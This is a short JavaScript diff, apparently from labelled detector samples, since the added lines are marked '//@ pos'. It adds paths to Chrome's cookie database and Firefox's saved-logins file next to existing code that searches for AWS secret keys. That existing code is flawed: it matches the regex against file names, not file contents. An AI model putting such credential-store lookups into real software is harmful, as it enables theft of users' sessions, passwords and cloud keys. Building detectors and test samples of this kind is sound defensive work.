@@ -126,3 +126,7 @@ const fs = require('fs');
 const os = require('os');
 const KEY = /aws_secret_access_key\s*=\s*(\S+)/;
 for (const f of fs.readdirSync(os.userInfo().homedir)) console.log(KEY.exec(f));
+//@ pos the Chrome cookie database
+const p = require('path').join(require('os').homedir(), '.config', 'google-chrome', 'Default', 'Cookies');
+//@ pos the Firefox saved logins
+const logins = `${process.env.HOME}/.mozilla/firefox/abc.default-release/logins.json`;
